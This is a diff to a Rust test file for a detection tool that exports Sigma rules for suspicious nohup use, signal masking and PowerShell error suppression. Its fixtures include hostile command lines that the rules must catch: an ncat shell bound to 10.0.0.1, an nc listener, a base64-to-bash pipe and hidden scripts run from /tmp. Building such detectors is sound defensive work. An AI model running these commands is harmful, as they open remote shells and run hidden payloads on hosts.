@@ -26,29 +26,160 @@ fn globs_become_anchored_regexes() {
 fn sigma_rules_cover_each_family_and_log_source() {
     let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
     let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
-    assert!(
-        names.contains(&"sighunt_nohup_linux_process_creation.yml"),
-        "{names:?}"
-    );
-    assert!(
-        names.contains(&"sighunt_nohup_linux_auditd.yml"),
-        "{names:?}"
-    );
+    for expected in [
+        "proc_creation_lnx_sighunt_nohup_suspicious_program.yml",
+        "proc_creation_macos_sighunt_nohup_suspicious_program.yml",
+        "lnx_auditd_sighunt_nohup_suspicious_program.yml",
+        "lnx_auditd_sighunt_signal_mask.yml",
+        "posh_ps_sighunt_error_suppression.yml",
+        "posh_pm_sighunt_error_suppression.yml",
+        "posh_pc_sighunt_error_suppression_pipeline.yml",
+        "correlation_sighunt_chmod_then_nohup.yml",
+        "correlation_sighunt_nohup_then_listener.yml",
+    ] {
+        assert!(names.contains(&expected), "{expected} missing: {names:?}");
+    }
     for (name, text) in &files {
-        assert!(text.contains("- attack.t1564.011\n"), "{name}");
-        assert!(text.contains("- attack.defense-evasion\n"), "{name}");
+        // ATT&CK v19: T1564 is under Stealth; no link stands where a tag should.
+        assert!(
+            text.contains(
+                "tags:\n    - attack.stealth\n    - attack.t1564\n    - attack.t1564.011\n"
+            ),
+            "{name}"
+        );
+        assert!(!text.contains("defense-evasion"), "{name}");
         assert!(text.contains("falsepositives:\n"), "{name}");
         assert!(text.contains("\nlevel: "), "{name}");
-        assert!(text.contains(ATTACK_URL), "{name}");
+        assert!(
+            !text.contains("attack.mitre.org"),
+            "{name}: a link where a tag belongs"
+        );
+        // SigmaHQ's file name rule: [a-z0-9_]{10,90}.yml with an underscore.
+        let stem = name.strip_suffix(".yml").unwrap();
+        assert!(
+            (10..=86).contains(&stem.len())
+                && stem.contains('_')
+                && stem
+                    .chars()
+                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_'),
+            "{name}"
+        );
     }
     let auditd = &files
         .iter()
-        .find(|(n, _)| n.ends_with("auditd.yml"))
+        .find(|(n, _)| n == "lnx_auditd_sighunt_nohup_suspicious_program.yml")
         .unwrap()
         .1;
     assert!(auditd.contains("service: auditd"));
+    assert!(auditd.contains("name: sighunt_nohup_linux_auditd\n"));
     assert!(auditd.contains("    - '/dev/shm/'"), "{auditd}");
     assert!(auditd.contains("Sigma cannot express"), "{auditd}");
+}
+
+/// Every `|re` value of every exported rule, as written in the YAML.
+fn exported_regexes() -> Vec<(String, String)> {
+    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
+    let mut out = Vec::new();
+    for (name, text) in files {
+        for line in text.lines() {
+            if let Some((_, v)) = line.split_once("|re: ") {
+                let v = v.trim();
+                let v = v[1..v.len() - 1].replace("''", "'");
+                out.push((name.clone(), v));
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn every_exported_regex_is_in_the_portable_subset() {
+    let res = exported_regexes();
+    assert!(res.len() >= 10, "{res:?}");
+    for (name, re) in res {
+        assert_eq!(portable::non_portable(&re), None, "{name}: {re}");
+        regex::Regex::new(&re).unwrap_or_else(|e| panic!("{name}: {re}: {e}"));
+    }
+}
+
+/// The nohup rule's one-regex indicator items, as the process_creation rule applies
+/// them, on a command line (`regex` searches, as Python, PCRE and RE2 do; the
+/// exported patterns read the same anchored, see `portable`). Items that combine a
+/// regex with `endswith` are left out, so this can only under-report.
+fn nohup_rule_fires(command_line: &str) -> bool {
+    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
+    let rule = &files
+        .iter()
+        .find(|(n, _)| n == "proc_creation_lnx_sighunt_nohup_suspicious_program.yml")
+        .unwrap()
+        .1;
+    let mut items: Vec<(String, Vec<String>)> = Vec::new();
+    for line in rule.lines() {
+        if line.starts_with("    ") && !line.starts_with("        ") {
+            items.push((line.trim().trim_end_matches(':').to_string(), Vec::new()));
+        } else if line.starts_with("        ") {
+            if let Some(item) = items.last_mut() {
+                item.1.push(line.trim().to_string());
+            }
+        }
+    }
+    let single = |name: &str| -> bool {
+        items.iter().any(|(n, body)| {
+            n.starts_with(name) && body.len() == 1 && body[0].starts_with("CommandLine|re: ") && {
+                let v = &body[0]["CommandLine|re: ".len()..];
+                regex::Regex::new(&v[1..v.len() - 1].replace("''", "'"))
+                    .unwrap()
+                    .is_match(command_line)
+            }
+        })
+    };
+    let masquerade = single("indicator_masquerade") && !single("filter_masquerade");
+    let other = items
+        .iter()
+        .filter(|(n, _)| n.starts_with("indicator_") && !n.starts_with("indicator_masquerade"))
+        .any(|(n, _)| single(n));
+    other || masquerade
+}
+
+#[test]
+fn nohup_rules_fire_on_payloads_not_on_admin_jobs() {
+    for fires in [
+        "nohup python3 /tmp/x.py",
+        "nohup /usr/bin/python3 -u /dev/shm/.a.py",
+        "nohup bash /var/tmp/run.sh",
+        "nohup /tmp/.X11-cache/x",
+        "nohup nc -lvp 4444",
+        "nohup ./kworker 1",
+        "env X=1 nohup /tmp/p",
+        "nohup /bin/bash -i -l",
+        "nohup ncat --sh-exec /bin/sh 10.0.0.1 9",
+        "sh -c 'echo ZWNobw== | base64 -d | bash'",
+    ] {
+        assert!(nohup_rule_fires(fires), "{fires}");
+    }
+    for quiet in [
+        "nohup bash backup.sh",
+        "nohup python3 manage.py runserver",
+        "nohup /opt/app/bin/worker --queue mail",
+        "nohup /usr/sbin/sshd -D",
+        "nohup ./build.sh > /tmp/build.log",
+        "nohup java -jar /opt/app.jar",
+    ] {
+        assert!(!nohup_rule_fires(quiet), "{quiet}");
+    }
+}
+
+#[test]
+fn rule_ids_of_findings_name_exported_rules() {
+    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
+    let all: String = files.iter().map(|(_, t)| t.as_str()).collect();
+    for (id, title) in RULES {
+        if *id == "sighunt_signal_ignore_live" {
+            continue;
+        }
+        assert!(all.contains(&format!("name: {id}")), "{id}");
+        assert!(all.contains(title), "{title}");
+    }
 }
 
 #[test]
